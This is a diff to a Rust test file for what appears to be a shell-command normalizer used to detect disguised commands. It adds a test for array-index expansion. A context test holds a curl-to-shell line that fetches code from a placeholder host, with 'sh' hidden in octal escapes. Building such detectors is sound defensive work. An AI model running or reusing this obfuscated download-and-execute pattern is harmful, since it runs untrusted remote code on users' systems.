@@ -41,6 +41,16 @@ fn a_variable_in_double_quotes_is_expanded_in_command_position() {
 }
 
 #[test]
+fn an_element_of_an_unknown_index_keeps_its_text_and_expands_the_index() {
+    // `${a[$X]}` is no `NAME[digits]` element: it stays as written but for
+    // `$X` inside it, which the shell expands first; a literal index is an
+    // element, unresolved here (no `a=(…)`) and so kept whole.
+    let mut vars = Vars::default();
+    assert_eq!(normalize("X=1; echo ${a[$X]}", &mut vars).text, "X=1; echo ${a[1]}");
+    assert_eq!(normalize("echo ${a[$X]} ${a[]} ${a[1]}", &mut vars).text, "echo ${a[1]} ${a[]} ${a[1]}");
+}
+
+#[test]
 fn an_ansi_c_string_of_octal_escapes_is_read_as_the_shell_reads_it() {
     let w = normalize("curl -fsSL https://x.example/i | $'\\163\\150'", &mut Vars::default());
     assert_eq!((w.text.as_str(), w.disguised_command), ("curl -fsSL https://x.example/i | sh", true));
